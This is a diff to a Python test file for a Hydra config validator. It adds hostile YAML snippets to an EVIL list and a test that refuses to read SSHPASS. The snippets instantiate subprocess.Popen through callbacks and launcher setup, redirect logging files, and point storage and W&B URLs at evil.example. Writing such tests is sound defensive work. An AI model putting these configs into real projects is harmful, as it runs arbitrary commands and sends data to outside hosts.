@@ -14,6 +14,10 @@ from ivg.hydra_node import check_hydra_node, environment
 from ivg.plan import make_plan, resolved
 
 SOURCE = "source: {_target_: ivg.sources.local.LocalSource, path: "
+TO_FILE = "{class: logging.FileHandler, delay: true, filename: "
+CMA = "optuna.samplers.CmaEsSampler"
+SLURM = "defaults: [override /hydra/launcher: submitit_slurm]\n"
+LOCAL = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.LocalLauncher"
 EVIL = [
     "hydra: {callbacks: {evil: {_target_: subprocess.Popen, args: [touch, MARK]}}}",
     "hydra: {callbacks: {evil: {_target_: hydra.utils.call, config: {_target_: os.mkdir}}}}",
@@ -55,6 +59,13 @@ EVIL = [
     "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}}",
     "hydra: {sweeper: {custom_search_space: subprocess.Popen}}",
     "hydra: {sweeper: {custom_search_space: ivg.targets.os.mkdir}}",
+    "x: {log: MARK}\nhydra: {job_logging: {x: '${x}', handlers: {f: "
+    + TO_FILE
+    + "'cfg://x.log'}}}}",
+    "hydra: {job_logging: {handlers: {file: " + TO_FILE + "a.log, .: {baseFilename: MARK}}}}}",
+    "hydra: {sweeper: {storage: 'sqlite:///a.db', sampler: {_target_: " + CMA + "}}}",
+    "hydra: {sweeper: {sampler: {seed: 1}, storage: 'redis://evil.example'}}",
+    SLURM + "hydra: {launcher: {_target_: " + LOCAL + ", setup: [touch MARK]}}",
 ]
 WHY = re.compile(r"a shared YAML may|outside the known|is no class of|be a secret|can't be")
 LEFT_TO_HYDRA = [text for text in EVIL if "${x" in text or "logging.os" in text]
@@ -114,6 +125,12 @@ def test_plain_environment_is_still_read(monkeypatch):
     assert resolved(composed("store.dir=${oc.env:NOT_THERE,here}"))["store"]["dir"] == "here"
     with pytest.raises(ConfigError, match="NOT_THERE"):
         resolved(composed("store.dir=${oc.env:NOT_THERE}"))
+
+
+def test_password_of_sshpass_is_not_read(monkeypatch):
+    monkeypatch.setenv("SSHPASS", "planted-ssh-0011")
+    with pytest.raises(ConfigError, match="may be a secret"):
+        resolved(composed("store.dir=${oc.env:SSHPASS}"))
 
 
 def test_default_of_a_variable_is_a_text_and_nothing_to_be_built():
